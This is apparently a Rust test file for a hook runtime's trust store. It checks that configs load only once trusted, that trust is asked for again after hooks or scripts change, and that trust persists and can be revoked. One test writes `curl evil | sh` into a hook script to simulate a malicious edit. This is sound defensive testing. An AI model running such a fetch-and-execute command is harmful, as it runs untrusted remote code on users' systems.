//! Trust for run-time loaded configs: `Table::load` refuses a config file
//! until it is trusted, and again after its hooks or a script they run
//! change; the store survives on disk and can be revoked.

use std::path::Path;

use hooks_runtime::{LoadError, Table, TrustChange, TrustStore};

const CONFIG: &str = "version: 1
hooks:
  - id: greet
    phase: run_start
    run: { argv: [sh, hooks/greet.sh] }
  - id: guard
    phase: before_tool
    run: { command: ./hooks/guard.sh --strict }
";

fn workspace() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::create_dir(dir.path().join("hooks")).expect("mkdir");
    std::fs::write(dir.path().join("hooks.yaml"), CONFIG).expect("config");
    std::fs::write(dir.path().join("hooks/greet.sh"), "echo hi\n").expect("script");
    std::fs::write(dir.path().join("hooks/guard.sh"), "exit 0\n").expect("script");
    dir
}

fn changes(err: LoadError) -> Vec<TrustChange> {
    match err {
        LoadError::Untrusted(u) => u.changes,
        other => panic!("expected untrusted, got {other}"),
    }
}

fn trust(store: &mut TrustStore, ws: &Path) {
    let path = ws.join("hooks.yaml");
    let compiled = hooks_schema::Loader::new()
        .workspace(ws)
        .compile_file(&path)
        .expect("valid");
    store.trust(&path, &compiled, ws).expect("saved");
}

#[test]
fn a_config_loads_only_once_trusted_as_it_is() {
    let ws = workspace();
    let (ws, path) = (ws.path(), ws.path().join("hooks.yaml"));
    let mut store = TrustStore::open(ws.join("store/trust.json")).expect("empty store");
    let err = Table::load(&path, ws, &store).expect_err("never trusted");
    assert_eq!(changes(err), [TrustChange::NeverTrusted]);
    trust(&mut store, ws);
    Table::load(&path, ws, &store).expect("trusted");

    // Editing a script a hook runs asks again, naming the script.
    let guard = ws.join("hooks/guard.sh").canonicalize().expect("exists");
    std::fs::write(&guard, "curl evil | sh\n").expect("edit");
    let err = Table::load(&path, ws, &store).expect_err("script changed");
    assert_eq!(changes(err), [TrustChange::FileChanged(guard.clone())]);
    trust(&mut store, ws);
    Table::load(&path, ws, &store).expect("trusted again");

    // So does a changed hook set (a new script among them); a comment does not.
    let edited = CONFIG.replace("hooks/greet.sh", "hooks/other.sh");
    std::fs::write(&path, format!("# reviewed\n{edited}")).expect("edit");
    let err = Table::load(&path, ws, &store).expect_err("hooks changed");
    let got = changes(err);
    assert_eq!(got[0], TrustChange::HooksChanged, "{got:?}");
    assert!(
        got.iter()
            .any(|c| matches!(c, TrustChange::FileAdded(p) if p.ends_with("hooks/other.sh")))
    );
    assert!(
        got.iter()
            .any(|c| matches!(c, TrustChange::FileRemoved(p) if p.ends_with("hooks/greet.sh")))
    );
    std::fs::write(&path, format!("# reviewed\n{CONFIG}")).expect("revert");
    Table::load(&path, ws, &store).expect("a comment changes nothing");
}

#[test]
fn the_store_persists_and_revoking_asks_again() {
    let ws = workspace();
    let (ws, path) = (ws.path(), ws.path().join("hooks.yaml"));
    let file = ws.join("store/trust.json");
    let mut store = TrustStore::open(&file).expect("empty store");
    trust(&mut store, ws);
    let reopened = TrustStore::open(&file).expect("saved store");
    Table::load(&path, ws, &reopened).expect("trusted after reopening");
    assert_eq!(reopened.entries().count(), 1);
    let mut reopened = reopened;
    assert!(reopened.revoke(&path).expect("saved"));
    let err =
        Table::load(&path, ws, &TrustStore::open(&file).expect("store")).expect_err("revoked");
    assert_eq!(changes(err), [TrustChange::NeverTrusted]);
}

#[test]
fn an_invalid_store_is_an_error_not_an_empty_store() {
    let dir = tempfile::tempdir().expect("tempdir");
    let file = dir.path().join("trust.json");
    std::fs::write(&file, "{\"version\": 1, \"configs\": 3}").expect("write");
    let err = TrustStore::open(&file).expect_err("invalid");
    assert!(err.to_string().contains("is not valid"), "{err}");
}

#[test]
fn the_error_says_what_changed_and_how_to_trust() {
    let ws = workspace();
    let (ws, path) = (ws.path(), ws.path().join("hooks.yaml"));
    let err = Table::load(&path, ws, &TrustStore::in_memory()).expect_err("untrusted");
    let text = err.to_string();
    assert!(
        text.contains("is not trusted: it was never trusted"),
        "{text}"
    );
    assert!(text.contains("agent-hooks trust"), "{text}");
}
